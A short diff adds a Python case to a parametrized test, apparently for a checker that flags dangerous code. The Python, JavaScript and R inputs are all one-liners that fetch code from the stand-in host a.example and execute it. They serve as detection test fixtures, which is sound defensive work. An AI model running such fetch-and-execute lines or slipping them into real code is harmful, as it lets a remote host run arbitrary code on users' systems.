@@ -123,6 +123,7 @@ def test_a_variable_that_programs_heed_is_a_danger(text: str, language: a.CodeLa
 
 
 @in_languages(
+    python="import urllib.request as u; exec(u.urlopen('http://a.example/x').read())",
     javascript="fetch('http://a.example/x').then(r => r.text()).then(eval)",
     r="source('http://a.example/x')",
 )
